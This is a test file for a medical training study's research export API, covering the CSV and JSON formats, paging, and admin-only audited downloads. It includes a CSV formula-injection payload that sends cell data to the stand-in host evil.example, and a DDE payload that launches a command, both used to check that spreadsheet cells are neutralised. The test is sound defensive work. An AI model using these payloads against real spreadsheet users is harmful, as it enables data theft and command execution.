import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../../test/app.ts';
import { describeEachDatabase } from '../../../test/databases.ts';
import { type Api, addAssessment, listen, playToDebrief } from '../../../test/fixtures/exports.ts';
import { EXPORT_DATASETS, EXPORT_FORMATS } from '../../contract/exports.ts';
import { conversations, messages } from '../db/schema.ts';
import { PAGE_SIZE } from '../exports/pages.ts';

const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const WRONG_MASK = 'I take an adult face mask and a 250 mL bag.';
const COMMENT_INJECTION = '@SUM(1+1)*cmd|" /C calc"!A0';
type Json = Record<string, unknown>;
const csvRows = (text: string): Record<string, string>[] => parse(text, { bom: true, columns: true });

/** The research exports over real HTTP: every dataset in both formats, streamed, spreadsheet-safe. */
describeEachDatabase('exports API', (target) => {
  let t: TestApp;
  let api: Api;

  beforeAll(async () => {
    t = await startTestApp({ target });
    api = await listen(t);
    await playToDebrief(api, t, 'EXP-1', [INJECTION, '-1+2', WRONG_MASK]);
    await addAssessment(t, 'EXP-1', { timePoint: 'pre', comment: COMMENT_INJECTION });
    await addAssessment(t, 'EXP-1', { timePoint: 'post' });
  });
  afterAll(async () => t?.close());

  const download = (dataset: string, format: string, token = api.admin) =>
    fetch(`${api.url}/api/exports/${dataset}/${format}`, { headers: { Authorization: `Bearer ${token}` } });
  const json = async (dataset: string): Promise<Json[]> => {
    const response = await download(dataset, 'json');
    expect(response.status).toBe(200);
    return response.json();
  };

  it('answers every dataset in both formats as a named download', async () => {
    for (const dataset of EXPORT_DATASETS) {
      for (const format of EXPORT_FORMATS) {
        const response = await download(dataset, format);
        expect(response.status, `${dataset}.${format}`).toBe(200);
        expect(response.headers.get('content-type')).toBe(
          format === 'csv' ? 'text/csv; charset=utf-8' : 'application/json; charset=utf-8',
        );
        expect(response.headers.get('content-disposition')).toMatch(
          new RegExp(`^attachment; filename="airway-study-${dataset}-\\d{4}-\\d\\d-\\d\\d\\.${format}"$`),
        );
        const bytes = new Uint8Array(await response.arrayBuffer());
        const body = new TextDecoder().decode(bytes);
        if (format === 'json') expect(Array.isArray(JSON.parse(body))).toBe(true);
        // A byte order mark, so Excel reads the UTF-8 (SpO₂, accents) right.
        else expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      }
    }
  });

  it('exports the participant, the session, every turn and both kinds of checklist', async () => {
    const [participant] = (await json('participants')).filter((p) => p.participant_id === 'EXP-1');
    expect(participant).toMatchObject({
      arm: 'chatbot',
      chat_sessions: 1,
      cases_played: 1,
      sessions_finished: 1,
      user_turns: 5,
      observer_assessments: 2,
      pre_total: 19,
      post_total: 19,
    });
    const [session] = (await json('sessions')).filter((s) => s.participant_id === 'EXP-1');
    expect(session).toMatchObject({
      tutor: 'engine',
      engine_stage: 'complete',
      finished: true,
      user_turns: 5,
      tutor_turns: 5,
      hard_stops: 2,
      items_expected: expect.any(Number),
      time_to_debrief_ms: expect.any(Number),
    });
    const turns = (await json('turns')).filter((turn) => turn.session_id === session?.session_id);
    expect(turns.map((turn) => turn.sender)).toEqual([...Array(5)].flatMap(() => ['user', 'bot']));
    expect(turns[2]).toMatchObject({ text: INJECTION, case_version: 1, tutor: 'engine', status: 'answered' });
    // The engine's reading of each reply: the hard stop on the wrong equipment, then the items credited.
    expect(turns[1]).toMatchObject({ engine_stage: 'running', engine_phase: 1, engine_attempt: 1 });
    // The state after a hard stop is the rewound phase: attempt 2.
    expect(turns[7]).toMatchObject({
      engine_attempt: 2,
      items_credited: null,
      hard_stop_items: 'BMV-8 BMV-9',
      hard_stop_reason: expect.stringContaining('An adult mask is too big'),
    });
    expect(turns[9]).toMatchObject({
      engine_stage: 'complete',
      engine_attempt: 2,
      items_credited: expect.stringContaining('BMV-10'),
      hard_stop_items: null,
    });
    const checklist = (await json('checklists')).filter((row) => row.participant_id === 'EXP-1');
    expect(checklist.filter((row) => row.source === 'chatbot')).toHaveLength(20);
    const observer = checklist.filter((row) => row.source === 'observer');
    expect(observer).toHaveLength(40);
    expect(observer[0]).toMatchObject({ item_id: 'BMV-1', outcome: 'not_done', comment: COMMENT_INJECTION });
    const chatbotOutcome = (item: string) =>
      checklist.find((row) => row.source === 'chatbot' && row.item_id === item);
    expect(chatbotOutcome('BMV-8')).toMatchObject({
      outcome: 'done_after_stop',
      session_id: session?.session_id,
    });
    expect(chatbotOutcome('BMV-10')).toMatchObject({ outcome: 'done', at_ms: expect.any(Number) });
    expect(chatbotOutcome('BMV-1')).toMatchObject({ outcome: 'not_applicable', at_ms: null });
  });

  it('neutralises spreadsheet formulas in CSV cells, and keeps JSON as typed', async () => {
    const turns = csvRows(await (await download('turns', 'csv')).text());
    const texts = turns.map((row) => row.text);
    expect(texts).toContain(`'${INJECTION}`);
    expect(texts).toContain("'-1+2");
    const checklists = csvRows(await (await download('checklists', 'csv')).text());
    expect(checklists.map((row) => row.comment)).toContain(`'${COMMENT_INJECTION}`);
    // No text cell of any dataset starts with a character a spreadsheet reads as a formula.
    for (const dataset of EXPORT_DATASETS) {
      const rows = csvRows(await (await download(dataset, 'csv')).text());
      expect(rows.length, dataset).toBeGreaterThan(0);
      for (const row of rows) {
        for (const cell of Object.values(row)) {
          if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell, dataset).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    }
    expect((await json('turns')).map((row) => row.text)).toContain(INJECTION);
  });

  it('pages through more rows than fit in one database round trip, each exactly once', async () => {
    const db = t.database.db;
    const many = PAGE_SIZE + 37;
    const rows = await db
      .insert(conversations)
      .values(
        Array.from({ length: many }, (_, i) => ({
          userSub: 'bulk',
          participantId: `BULK-${String(i).padStart(4, '0')}`,
          caseId: 1,
          caseVersion: 1,
          tutor: 'llm',
        })),
      )
      .returning({ id: conversations.id });
    await db
      .insert(messages)
      .values(rows.map((r) => ({ conversationId: r.id, sender: 'user', text: 'hello' })));
    const participants = await json('participants');
    const ids = participants.map((p) => p.participant_id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.filter((id) => String(id).startsWith('BULK-'))).toHaveLength(many);
    expect(ids).toEqual([...ids].sort());
    const sessions = await json('sessions');
    expect(new Set(sessions.map((s) => s.session_id)).size).toBe(many + 1);
    const turns = await json('turns');
    expect(turns).toHaveLength(many + 10);
    expect(new Set(turns.map((turn) => turn.message_id)).size).toBe(many + 10);
    // Session by session, and in order within each.
    const keys = turns.map((turn) => [String(turn.session_id), Number(turn.message_id)] as const);
    const sorted = [...keys].sort(([a, x], [b, y]) => (a < b ? -1 : a > b ? 1 : x - y));
    expect(keys).toEqual(sorted);
  });

  it('refuses unknown datasets and formats, and non-admins; records every download', async () => {
    expect((await download('passwords', 'csv')).status).toBe(400);
    expect((await download('turns', 'xlsx')).status).toBe(400);
    expect((await download('turns', 'csv', api.resident)).status).toBe(403);
    const audit = await fetch(`${api.url}/api/audit?limit=200`, {
      headers: { Authorization: `Bearer ${api.admin}` },
    });
    const events = (await audit.json()).events as Json[];
    expect(events.filter((e) => e.action === 'export.download').length).toBeGreaterThanOrEqual(8);
    expect(events.find((e) => e.action === 'export.download')).toMatchObject({
      actorEmail: 'admin@example.org',
      subject: expect.any(String),
      details: { format: expect.stringMatching(/csv|json/) },
    });
  });
});
